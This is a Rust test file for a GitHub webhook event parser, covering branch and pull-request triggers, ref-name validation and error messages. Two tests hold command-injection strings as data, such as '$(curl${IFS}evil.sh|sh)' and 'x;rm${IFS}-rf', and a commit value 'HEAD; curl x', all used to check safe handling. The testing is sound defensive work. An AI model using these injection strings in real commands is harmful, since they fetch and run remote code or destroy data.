use super::*;
use serde_json::json;

const SHA: &str = "6113728f27ae82c7b1a177c8d03f9e96e0adf246";

fn push(git_ref: &str) -> serde_json::Value {
    json!({
        "ref": git_ref,
        "after": SHA,
        "deleted": false,
        "repository": {"full_name": "octo-org/octo-repo", "default_branch": "main"},
        "sender": {"login": "octocat"},
        "pusher": {"name": "octocat"}
    })
}

fn pr(action: &str) -> serde_json::Value {
    json!({
        "action": action,
        "number": 7,
        "pull_request": {
            "title": "Add payments",
            "user": {"login": "octocat"},
            "merged": false,
            "head": {"ref": "feature/payment-api", "sha": SHA, "repo": {"full_name": "octo-org/octo-repo"}},
            "base": {"ref": "main", "sha": SHA, "repo": {"full_name": "octo-org/octo-repo"}}
        },
        "repository": {"full_name": "octo-org/octo-repo"}
    })
}

fn parse(event: &str, v: &serde_json::Value) -> Result<Trigger, EventError> {
    parse_event(event, v.to_string().as_bytes())
}

#[test]
fn branch_push_becomes_a_push_trigger() {
    let t = parse("push", &push("refs/heads/feature/payment-api")).unwrap();
    let Trigger::Push {
        repository,
        branch,
        commit,
        actor,
        default_branch,
    } = t
    else {
        panic!("expected a push, got {t:?}");
    };
    assert_eq!(repository.as_str(), "octo-org/octo-repo");
    assert_eq!(repository.owner(), "octo-org");
    assert_eq!(repository.name(), "octo-repo");
    assert_eq!(branch.as_str(), "feature/payment-api");
    assert_eq!(commit.short(), "6113728");
    assert_eq!(actor, "octocat");
    assert_eq!(default_branch.unwrap().as_str(), "main");
}

#[test]
fn push_to_the_default_branch_is_ignored() {
    let t = parse("push", &push("refs/heads/main")).unwrap();
    assert!(matches!(
        t,
        Trigger::Ignored {
            reason: IgnoredReason::DefaultBranch { .. }
        }
    ));
}

#[test]
fn push_without_default_branch_ignores_main_and_master_only() {
    for (branch, ignored) in [("main", true), ("master", true), ("develop", false)] {
        let mut v = push(&format!("refs/heads/{branch}"));
        v["repository"]["default_branch"] = serde_json::Value::Null;
        let t = parse("push", &v).unwrap();
        assert_eq!(t.kind() == "ignored", ignored, "{branch}");
    }
}

#[test]
fn push_to_a_branch_named_main_is_a_preview_when_the_default_is_another() {
    let mut v = push("refs/heads/main");
    v["repository"]["default_branch"] = json!("trunk");
    assert_eq!(parse("push", &v).unwrap().kind(), "push");
}

#[test]
fn tag_push_and_other_refs_are_ignored() {
    let t = parse("push", &push("refs/tags/v1.0")).unwrap();
    assert_eq!(
        t,
        Trigger::Ignored {
            reason: IgnoredReason::TagPush { tag: "v1.0".into() }
        }
    );
    let t = parse("push", &push("refs/notes/commits")).unwrap();
    assert!(matches!(
        t,
        Trigger::Ignored {
            reason: IgnoredReason::OtherRef { .. }
        }
    ));
}

#[test]
fn deleting_push_becomes_branch_deleted() {
    let mut v = push("refs/heads/feature/x");
    v["deleted"] = json!(true);
    v["after"] = json!("0000000000000000000000000000000000000000");
    assert_eq!(parse("push", &v).unwrap().kind(), "branch_deleted");
}

#[test]
fn delete_event_of_a_branch_is_branch_deleted_and_of_a_tag_is_ignored() {
    let mut v = json!({
        "ref": "feature/x", "ref_type": "branch",
        "repository": {"full_name": "octo-org/octo-repo"}, "sender": {"login": "octocat"}
    });
    let t = parse("delete", &v).unwrap();
    assert_eq!(t.branch().unwrap().as_str(), "feature/x");
    assert_eq!(t.kind(), "branch_deleted");
    v["ref_type"] = json!("tag");
    assert!(matches!(
        parse("delete", &v).unwrap(),
        Trigger::Ignored {
            reason: IgnoredReason::TagDeleted { .. }
        }
    ));
}

#[test]
fn pull_request_actions_map_to_triggers() {
    for (action, kind) in [
        ("opened", "pull_request"),
        ("synchronize", "pull_request"),
        ("reopened", "pull_request"),
        ("closed", "pull_request_closed"),
        ("labeled", "pull_request"),
        ("unlabeled", "ignored"),
        ("edited", "ignored"),
    ] {
        assert_eq!(
            parse("pull_request", &pr(action)).unwrap().kind(),
            kind,
            "{action}"
        );
    }
}

#[test]
fn a_submitted_review_is_a_pull_request_trigger_that_only_provisions_a_waiting_preview() {
    let mut v = pr("submitted");
    v.as_object_mut().unwrap().remove("number");
    v["pull_request"]["number"] = json!(7);
    let t = parse("pull_request_review", &v).unwrap();
    let Trigger::PullRequest { action, pr } = &t else {
        panic!("{t:?}")
    };
    assert_eq!(*action, PrAction::Reviewed);
    assert_eq!(pr.number, 7);
    v["action"] = json!("dismissed");
    assert!(matches!(
        parse("pull_request_review", &v).unwrap(),
        Trigger::Ignored {
            reason: IgnoredReason::PullRequestAction { .. }
        }
    ));
    v["action"] = json!("submitted");
    v["pull_request"].as_object_mut().unwrap().remove("number");
    assert!(
        parse("pull_request_review", &v).is_err(),
        "a review names its pull request"
    );
}

#[test]
fn closed_pull_request_reports_whether_it_was_merged() {
    let mut v = pr("closed");
    let Trigger::PullRequestClosed { merged, pr } = parse("pull_request", &v).unwrap() else {
        panic!("expected closed");
    };
    assert!(!merged);
    assert!(!pr.from_fork);
    assert_eq!(pr.number, 7);
    assert_eq!(pr.base_branch.as_str(), "main");
    v["pull_request"]["merged"] = json!(true);
    assert!(matches!(
        parse("pull_request", &v).unwrap(),
        Trigger::PullRequestClosed { merged: true, .. }
    ));
}

#[test]
fn pull_request_from_a_fork_or_deleted_fork_is_flagged() {
    let mut v = pr("opened");
    v["pull_request"]["head"]["repo"]["full_name"] = json!("mallory/octo-repo");
    let Trigger::PullRequest { pr, .. } = parse("pull_request", &v).unwrap() else {
        panic!("expected a pull request");
    };
    assert!(pr.from_fork);
    v["pull_request"]["head"]["repo"] = serde_json::Value::Null;
    let Trigger::PullRequest { pr, .. } = parse("pull_request", &v).unwrap() else {
        panic!("expected a pull request");
    };
    assert!(pr.from_fork);
    assert_eq!(pr.head_repository, None);
}

#[test]
fn schedule_and_dispatch_are_parsed() {
    let t = parse("schedule", &json!({"schedule": "0 */4 * * *"})).unwrap();
    assert_eq!(
        t,
        Trigger::Schedule {
            cron: Some("0 */4 * * *".into()),
            repository: None
        }
    );
    let t = parse(
        "workflow_dispatch",
        &json!({"ref": "refs/heads/main", "inputs": {"name": "demo", "force": true, "n": 3, "x": null},
                "repository": {"full_name": "octo-org/octo-repo"}}),
    )
    .unwrap();
    let Trigger::Dispatch {
        inputs, git_ref, ..
    } = t
    else {
        panic!("expected dispatch")
    };
    assert_eq!(git_ref, "refs/heads/main");
    assert_eq!(
        inputs.into_iter().collect::<Vec<_>>(),
        vec![
            ("force".into(), "true".into()),
            ("n".into(), "3".into()),
            ("name".into(), "demo".into())
        ]
    );
}

#[test]
fn unknown_events_are_ignored_without_reading_the_payload() {
    let t = parse_event("issues", b"not json at all").unwrap();
    assert!(matches!(
        t,
        Trigger::Ignored {
            reason: IgnoredReason::UnsupportedEvent { .. }
        }
    ));
    assert_eq!(
        parse_event("pull_request_target", b"{}").unwrap().kind(),
        "ignored"
    );
}

#[test]
fn invalid_json_reports_line_and_column() {
    let err = parse_event("push", b"{\n  \"ref\": \"refs/heads/x\",\n  oops\n}").unwrap_err();
    let EventError::InvalidJson { line, column, .. } = &err else {
        panic!("{err:?}")
    };
    assert_eq!((*line, *column), (3, 3));
    assert!(
        err.to_string()
            .starts_with("`push` payload is not valid JSON at line 3, column 3")
    );
    assert!(matches!(
        parse_event("push", b"{} {}").unwrap_err(),
        EventError::InvalidJson { .. }
    ));
    assert!(matches!(
        parse_event("push", b"").unwrap_err(),
        EventError::InvalidJson { .. }
    ));
}

#[test]
fn missing_fields_name_their_json_path() {
    let mut v = pr("opened");
    v["pull_request"]["head"]
        .as_object_mut()
        .unwrap()
        .remove("ref");
    let err = parse("pull_request", &v).unwrap_err();
    assert_eq!(
        err,
        EventError::MissingField {
            event: "pull_request".into(),
            path: "pull_request.head.ref".into()
        }
    );
    assert_eq!(
        err.to_string(),
        "`pull_request` payload has no `pull_request.head.ref`: pass the complete payload GitHub sent for this event"
    );
}

#[test]
fn wrong_types_name_their_json_path() {
    let mut v = pr("opened");
    v["pull_request"]["head"]["ref"] = json!(42);
    let err = parse("pull_request", &v).unwrap_err();
    let EventError::WrongType { path, message, .. } = &err else {
        panic!("{err:?}")
    };
    assert_eq!(path, "pull_request.head.ref");
    assert!(message.contains("invalid type: integer `42`"), "{message}");
    let err = parse_event("push", b"[1, 2]").unwrap_err();
    assert_eq!(err.kind(), "wrong_type");
}

#[test]
fn hostile_but_legal_branch_names_survive_as_data() {
    for name in [
        "$(curl${IFS}evil.sh|sh)",
        "`id`",
        "a\"b'c",
        "x;rm${IFS}-rf",
        "<script>",
        "a|b",
        "émoji-🚀",
    ] {
        let t = parse("push", &push(&format!("refs/heads/{name}"))).unwrap();
        assert_eq!(t.branch().unwrap().as_str(), name);
    }
}

#[test]
fn illegal_ref_names_are_refused_with_the_rule_they_break() {
    for (name, problem) in [
        ("a\nb", RefProblem::ControlCharacter),
        ("a\tb", RefProblem::ControlCharacter),
        ("a b", RefProblem::ForbiddenCharacter { character: ' ' }),
        (
            "$(curl evil)",
            RefProblem::ForbiddenCharacter { character: ' ' },
        ),
        ("a~1", RefProblem::ForbiddenCharacter { character: '~' }),
        ("a..b", RefProblem::DoubleDot),
        ("a@{1}", RefProblem::AtBrace),
        ("@", RefProblem::LoneAt),
        ("a//b", RefProblem::BadSlash),
        ("a/", RefProblem::BadSlash),
        ("a/.b", RefProblem::ComponentStartsWithDot),
        ("a.lock/b", RefProblem::ComponentEndsWithLock),
        ("a.", RefProblem::EndsWithDot),
        ("-a", RefProblem::StartsWithDash),
        ("", RefProblem::Empty),
    ] {
        assert_eq!(check_ref_name(name), Err(problem), "{name:?}");
    }
    let long = "a".repeat(256);
    assert_eq!(check_ref_name(&long), Err(RefProblem::TooLong { len: 256 }));
    assert!(check_ref_name(&"a".repeat(255)).is_ok());
}

#[test]
fn newline_in_a_pushed_branch_is_an_invalid_ref_error() {
    let err = parse("push", &push("refs/heads/feature/x\ny")).unwrap_err();
    assert_eq!(err.kind(), "invalid_ref");
    assert_eq!(
        err.to_string(),
        "`push` payload field `ref` is not a legal branch name (`feature/x\\ny`): it contains a control character (newline, tab, …); git forbids them"
    );
}

#[test]
fn repository_names_must_be_owner_slash_name() {
    for bad in ["noslash", "a/b/c", "/x", "x/", "own er/x", "o/..", "o/$(x)"] {
        assert!(Repository::parse(bad).is_none(), "{bad}");
        let mut v = push("refs/heads/x");
        v["repository"]["full_name"] = json!(bad);
        assert_eq!(
            parse("push", &v).unwrap_err().kind(),
            "invalid_repository",
            "{bad}"
        );
    }
    assert!(Repository::parse("my-org/my.repo_1").is_some());
}

#[test]
fn commit_must_be_a_full_sha() {
    let mut v = push("refs/heads/x");
    v["after"] = json!("HEAD; curl x");
    assert_eq!(parse("push", &v).unwrap_err().kind(), "invalid_commit");
}

#[test]
fn shown_values_are_escaped_and_cut() {
    assert_eq!(shown("a\nb"), "a\\nb");
    assert_eq!(shown(&"x".repeat(100)).chars().count(), SHOWN_CHARS + 1);
}

#[test]
fn triggers_serialize_with_a_kind_tag() {
    let t = parse("push", &push("refs/heads/feature/x")).unwrap();
    assert_eq!(
        serde_json::to_value(&t).unwrap(),
        json!({"kind": "push", "repository": "octo-org/octo-repo", "branch": "feature/x",
               "commit": SHA, "actor": "octocat", "default_branch": "main"})
    );
    let t = parse("push", &push("refs/tags/v1")).unwrap();
    assert_eq!(
        serde_json::to_value(&t).unwrap(),
        json!({"kind": "ignored", "reason": {"kind": "tag_push", "tag": "v1"}})
    );
}
